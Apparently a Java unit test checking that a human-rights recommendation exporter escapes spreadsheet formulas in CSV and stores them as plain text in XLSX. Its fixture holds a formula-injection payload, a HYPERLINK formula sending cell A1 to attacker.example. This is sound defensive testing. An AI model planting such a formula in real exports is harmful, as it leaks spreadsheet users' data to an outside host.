package org.troika.export;

import static org.assertj.core.api.Assertions.assertThat;
import static org.troika.recommendation.RecommendationBuilder.aRecommendation;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.troika.recommendation.domain.Recommendation;
import org.troika.state.StateRegistry;

class RecommendationExporterTest {

    private static final String FORMULA = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"Click\")";

    private final RecommendationExporter exporter = new RecommendationExporter(StateRegistry.bundled());
    private final List<Recommendation> hostile = List.of(
            aRecommendation().paragraph("1.1").text(FORMULA).by("FRA").build(),
            aRecommendation().paragraph("1.2").text("+1 Ratify the Convention").by("CIV").build(),
            aRecommendation().paragraph("1.3").text("Abolish the death penalty - fully").by("DEU").build());

    @Test
    void csv_cells_that_a_spreadsheet_would_run_as_formulas_start_with_an_apostrophe() throws IOException {
        List<CSVRecord> rows = csv(hostile);

        assertThat(rows).extracting(r -> r.get("text"))
                .containsExactly("'" + FORMULA, "'+1 Ratify the Convention", "Abolish the death penalty - fully");
        assertThat(rows).extracting(r -> SpreadsheetSafeText.undo(r.get("text")))
                .containsExactly(FORMULA, "+1 Ratify the Convention", "Abolish the death penalty - fully");
    }

    @Test
    void csv_names_recommending_states_by_code_and_by_name() throws IOException {
        CSVRecord row = csv(hostile).get(1);

        assertThat(row.get("recommending_states")).isEqualTo("CIV");
        assertThat(row.get("recommending_state_names")).isEqualTo(StateRegistry.bundled().byCode("CIV").orElseThrow().name());
    }

    @Test
    void xlsx_keeps_hostile_text_as_plain_text_cells() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        long written = exporter.write(ExportFormat.XLSX, hostile::forEach, out);

        assertThat(written).isEqualTo(hostile.size());
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(out.toByteArray()))) {
            int textColumn = RecommendationExporter.COLUMNS.indexOf("text");
            Row first = workbook.getSheetAt(0).getRow(1);
            assertThat(first.getCell(textColumn).getCellType()).isEqualTo(CellType.STRING);
            assertThat(first.getCell(textColumn).getStringCellValue()).isEqualTo(FORMULA);
        }
    }

    @Test
    void undo_leaves_ordinary_apostrophes_alone() {
        assertThat(SpreadsheetSafeText.undo("'Tis the season")).isEqualTo("'Tis the season");
        assertThat(SpreadsheetSafeText.undo("'")).isEqualTo("'");
    }

    private List<CSVRecord> csv(List<Recommendation> recommendations) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        exporter.write(ExportFormat.CSV, recommendations::forEach, out);
        String text = out.toString(StandardCharsets.UTF_8);
        assertThat(text).startsWith("\uFEFF");
        return CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(text.substring(1))).getRecords();
    }
}
